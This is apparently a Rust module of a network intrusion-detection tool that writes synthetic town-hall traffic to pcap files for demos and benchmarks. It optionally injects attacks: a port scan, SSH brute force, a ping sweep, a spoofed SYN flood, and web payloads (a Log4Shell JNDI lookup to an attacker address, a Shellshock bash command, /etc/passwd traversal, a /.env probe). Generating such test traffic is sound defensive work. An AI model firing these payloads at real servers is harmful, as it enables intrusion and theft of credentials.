//! A town hall's traffic, generated: web and TLS sessions, DNS, NTP, with
//! (optionally) real-looking attacks mixed in. Used by `vigie demo` and by
//! the speed benchmark; deterministic for a given seed.
//!
//! Addresses: the commune is 192.168.1.0/24 (the default home net), the
//! outside world lives in the documentation ranges (RFC 5737), attackers
//! included.

use std::io::{self, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr};

use super::app;
use super::{FrameBuilder, Rng};
use crate::capture::PcapWriter;
use crate::decode::{LinkType, TcpFlags};
use crate::incidents::{NANOS_PER_SEC, Nanos};

const SYN: u8 = TcpFlags::SYN;
const ACK: u8 = TcpFlags::ACK;
const PSH_ACK: u8 = TcpFlags::PSH | TcpFlags::ACK;
const FIN_ACK: u8 = TcpFlags::FIN | TcpFlags::ACK;
const RST: u8 = TcpFlags::RST;
const RST_ACK: u8 = TcpFlags::RST | TcpFlags::ACK;
const MSS: usize = 1448;

/// What to generate.
#[derive(Clone, Debug)]
pub struct Mix {
    /// Frames to write (the last session may add a few more).
    pub packets: u64,
    /// Time of the first frame.
    pub start: Nanos,
    /// Mean frames per second of capture time.
    pub packets_per_second: u64,
    pub seed: u64,
    /// Mix the attacks of [`Attacks`] in (at fixed fractions of the capture).
    pub attacks: bool,
}

/// The attacks mixed into the traffic, with their expected counts.
pub struct Attacks;

impl Attacks {
    pub const SCANNER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
    pub const SCANNED_PORTS: u16 = 1000;
    pub const BRUTE_FORCER: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 77);
    pub const SSH_ATTEMPTS: u32 = 40;
    pub const WEB_ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 99);
    pub const SWEEPER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 150);
    pub const SWEPT_HOSTS: u8 = 254;
    /// The commune's web server.
    pub const SERVER: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 10);
}

/// What was written.
#[derive(Clone, Copy, Debug, Default)]
pub struct Written {
    pub packets: u64,
    pub bytes: u64,
}

/// Writes the capture as nanosecond pcap to `out`.
pub fn write_capture<W: Write>(out: W, mix: &Mix) -> io::Result<Written> {
    let mut generator = Generator {
        writer: PcapWriter::new(out, LinkType::Ethernet)?,
        frames: FrameBuilder::new(),
        rng: Rng::new(mix.seed),
        now: mix.start,
        gap: NANOS_PER_SEC / mix.packets_per_second.max(1) as i64,
        written: Written::default(),
        junk: (0..MSS).map(|i| (i * 7 + 13) as u8).collect(),
        next_port: 40000,
    };
    let attack_points = [0.2, 0.4, 0.6, 0.8];
    let mut next_attack = 0;
    while generator.written.packets < mix.packets {
        if mix.attacks
            && let Some(point) = attack_points.get(next_attack)
            && generator.written.packets as f64 >= point * mix.packets as f64
        {
            generator.attack(next_attack)?;
            next_attack += 1;
            continue;
        }
        generator.session()?;
    }
    generator.writer.finish()?.flush()?;
    Ok(generator.written)
}

struct Generator<W: Write> {
    writer: PcapWriter<W>,
    frames: FrameBuilder,
    rng: Rng,
    now: Nanos,
    gap: Nanos,
    written: Written,
    junk: Vec<u8>,
    next_port: u16,
}

/// Which frame to build; kept apart from the builder so `emit` can borrow both.
enum Frame<'a> {
    Tcp(SocketAddr, SocketAddr, u8, u32, u32, &'a [u8]),
    Udp(SocketAddr, SocketAddr, &'a [u8]),
    Echo(IpAddr, IpAddr, u16),
}

impl<W: Write> Generator<W> {
    fn emit(&mut self, frame: Frame<'_>) -> io::Result<()> {
        let bytes = match frame {
            Frame::Tcp(src, dst, flags, seq, ack, payload) => {
                self.frames.tcp(src, dst, flags, seq, ack, payload)
            }
            Frame::Udp(src, dst, payload) => self.frames.udp(src, dst, payload),
            Frame::Echo(src, dst, seq) => self.frames.icmp_echo_request(src, dst, 0x4242, seq),
        };
        // Jitter around the mean gap, so rates look like a real link's.
        let jitter = (self.rng.next() % 100) as i64;
        self.now += self.gap * (50 + jitter) / 100;
        self.writer.write(self.now, bytes)?;
        self.written.packets += 1;
        self.written.bytes += bytes.len() as u64;
        Ok(())
    }

    fn client(&mut self) -> SocketAddr {
        let host = 20 + (self.rng.next() % 30) as u8;
        self.next_port = if self.next_port >= 60999 {
            40000
        } else {
            self.next_port + 1
        };
        SocketAddr::new(IpAddr::V4(Ipv4Addr::new(192, 168, 1, host)), self.next_port)
    }

    fn server(&mut self, port: u16) -> SocketAddr {
        let n = self.rng.next();
        let ip = if n.is_multiple_of(2) {
            Ipv4Addr::new(198, 51, 100, (n >> 8) as u8 % 200 + 1)
        } else {
            Ipv4Addr::new(203, 0, 113, (n >> 8) as u8 % 50 + 1)
        };
        SocketAddr::new(IpAddr::V4(ip), port)
    }

    /// One ordinary conversation of a commune machine.
    fn session(&mut self) -> io::Result<()> {
        match self.rng.next() % 100 {
            0..=39 => {
                let request = app::http_request(
                    "GET",
                    "/actualites/conseil-municipal.html?page=2",
                    &[
                        ("Host", "www.example.org"),
                        (
                            "User-Agent",
                            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0",
                        ),
                        ("Accept", "text/html,application/xhtml+xml"),
                        ("Accept-Language", "fr-FR,fr;q=0.9"),
                        ("Cookie", "session=8f2a9c; consent=yes"),
                    ],
                    b"",
                );
                let (client, server) = (self.client(), self.server(80));
                let segments = 1 + self.rng.next() % 12;
                self.tcp_session(client, server, &request, segments)
            }
            40..=74 => {
                let hello = app::tls_client_hello(Some("services.example.net"));
                let (client, server) = (self.client(), self.server(443));
                let segments = 1 + self.rng.next() % 30;
                self.tcp_session(client, server, &hello, segments)
            }
            75..=94 => {
                let query = app::dns_query(self.rng.next() as u16, "www.example.com", 1);
                let (client, server) = (self.client(), self.server(53));
                self.emit(Frame::Udp(client, server, &query))?;
                let mut answer = query;
                if let Some(flags) = answer.get_mut(2) {
                    *flags |= 0x80;
                }
                answer.extend_from_slice(&[
                    0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 1, 0x2c, 0, 4, 192, 0, 2, 80,
                ]);
                self.emit(Frame::Udp(server, client, &answer))
            }
            _ => {
                let mut ntp = [0u8; 48];
                ntp[0] = 0x23;
                let (client, server) = (self.client(), self.server(123));
                self.emit(Frame::Udp(client, server, &ntp))?;
                ntp[0] = 0x24;
                self.emit(Frame::Udp(server, client, &ntp))
            }
        }
    }

    /// Handshake, one request, `segments` full-size answers with ACKs
    /// every two, and the close.
    fn tcp_session(
        &mut self,
        client: SocketAddr,
        server: SocketAddr,
        request: &[u8],
        segments: u64,
    ) -> io::Result<()> {
        let (mut c_seq, mut s_seq) = (self.rng.next() as u32, self.rng.next() as u32);
        self.emit(Frame::Tcp(client, server, SYN, c_seq, 0, &[]))?;
        self.emit(Frame::Tcp(
            server,
            client,
            SYN | ACK,
            s_seq,
            c_seq.wrapping_add(1),
            &[],
        ))?;
        c_seq = c_seq.wrapping_add(1);
        s_seq = s_seq.wrapping_add(1);
        self.emit(Frame::Tcp(client, server, ACK, c_seq, s_seq, &[]))?;
        self.emit(Frame::Tcp(client, server, PSH_ACK, c_seq, s_seq, request))?;
        c_seq = c_seq.wrapping_add(request.len() as u32);
        let junk = std::mem::take(&mut self.junk);
        for i in 0..segments {
            let size = if i + 1 == segments {
                200 + (self.rng.next() % 1000) as usize
            } else {
                MSS
            };
            let data = junk.get(..size).unwrap_or(&junk);
            self.emit(Frame::Tcp(server, client, ACK, s_seq, c_seq, data))?;
            s_seq = s_seq.wrapping_add(data.len() as u32);
            if i % 2 == 1 || i + 1 == segments {
                self.emit(Frame::Tcp(client, server, ACK, c_seq, s_seq, &[]))?;
            }
        }
        self.junk = junk;
        self.emit(Frame::Tcp(client, server, FIN_ACK, c_seq, s_seq, &[]))?;
        self.emit(Frame::Tcp(
            server,
            client,
            FIN_ACK,
            s_seq,
            c_seq.wrapping_add(1),
            &[],
        ))?;
        self.emit(Frame::Tcp(
            client,
            server,
            ACK,
            c_seq.wrapping_add(1),
            s_seq.wrapping_add(1),
            &[],
        ))
    }

    fn attack(&mut self, which: usize) -> io::Result<()> {
        let server = IpAddr::V4(Attacks::SERVER);
        match which {
            0 => {
                // A half-open SYN scan: closed ports answer RST, 22 and 80 SYN-ACK.
                let scanner = IpAddr::V4(Attacks::SCANNER);
                for port in 1..=Attacks::SCANNED_PORTS {
                    let (from, to) = (
                        SocketAddr::new(scanner, 61234),
                        SocketAddr::new(server, port),
                    );
                    self.emit(Frame::Tcp(from, to, SYN, 1000, 0, &[]))?;
                    if port == 22 || port == 80 {
                        self.emit(Frame::Tcp(to, from, SYN | ACK, 5000, 1001, &[]))?;
                        self.emit(Frame::Tcp(from, to, RST, 1001, 0, &[]))?;
                    } else {
                        self.emit(Frame::Tcp(to, from, RST_ACK, 0, 1001, &[]))?;
                    }
                }
                Ok(())
            }
            1 => {
                let banner = b"SSH-2.0-libssh_0.9.6\r\n";
                for _ in 0..Attacks::SSH_ATTEMPTS {
                    let from =
                        SocketAddr::new(IpAddr::V4(Attacks::BRUTE_FORCER), self.client().port());
                    self.tcp_session(from, SocketAddr::new(server, 22), banner, 2)?;
                }
                Ok(())
            }
            2 => {
                let attempts: [(&str, &[(&str, &str)]); 4] = [
                    (
                        "/",
                        &[
                            ("Host", "mairie"),
                            ("User-Agent", "${jndi:ldap://203.0.113.99:1389/a}"),
                        ],
                    ),
                    (
                        "/cgi-bin/status",
                        &[
                            ("Host", "mairie"),
                            ("User-Agent", "() { :; }; /bin/bash -c 'id'"),
                        ],
                    ),
                    ("/..%2f..%2f..%2f..%2fetc%2fpasswd", &[("Host", "mairie")]),
                    ("/.env", &[("Host", "mairie")]),
                ];
                for (target, headers) in attempts {
                    let request = app::http_request("GET", target, headers, b"");
                    let from =
                        SocketAddr::new(IpAddr::V4(Attacks::WEB_ATTACKER), self.client().port());
                    self.tcp_session(from, SocketAddr::new(server, 80), &request, 1)?;
                }
                Ok(())
            }
            _ => {
                let sweeper = IpAddr::V4(Attacks::SWEEPER);
                for host in 1..=Attacks::SWEPT_HOSTS {
                    let target = IpAddr::V4(Ipv4Addr::new(192, 168, 1, host));
                    self.emit(Frame::Echo(sweeper, target, u16::from(host)))?;
                }
                Ok(())
            }
        }
    }
}

/// A SYN flood on the commune's web server (`Attacks::SERVER`:80), one
/// packet from each of `sources` random spoofed addresses (or all from one
/// address when `sources` is 1), at 100,000 packets per second.
pub fn write_syn_flood<W: Write>(
    out: W,
    packets: u64,
    sources: u64,
    start: Nanos,
    seed: u64,
) -> io::Result<Written> {
    let mut writer = PcapWriter::new(out, LinkType::Ethernet)?;
    let mut frames = FrameBuilder::new();
    let mut rng = Rng::new(seed);
    let target = SocketAddr::new(IpAddr::V4(Attacks::SERVER), 80);
    let mut written = Written::default();
    for i in 0..packets {
        let n = rng.next();
        let source = if sources <= 1 {
            Ipv4Addr::new(198, 51, 100, 200)
        } else {
            // Spread over 11.0.0.0–126.255.255.255: public unicast, clear of
            // 10/8, which is the commune's (private) side.
            let index = (n % sources) as u32;
            Ipv4Addr::from(0x0b00_0000 + index.wrapping_mul(2_654_435_761) % 0x7400_0000)
        };
        let from = SocketAddr::new(IpAddr::V4(source), 1024 + (n >> 48) as u16 % 60000);
        let frame = frames.tcp(from, target, SYN, n as u32, 0, &[]);
        writer.write(start + i as i64 * 10_000, frame)?;
        written.packets += 1;
        written.bytes += frame.len() as u64;
    }
    writer.finish()?.flush()?;
    Ok(written)
}
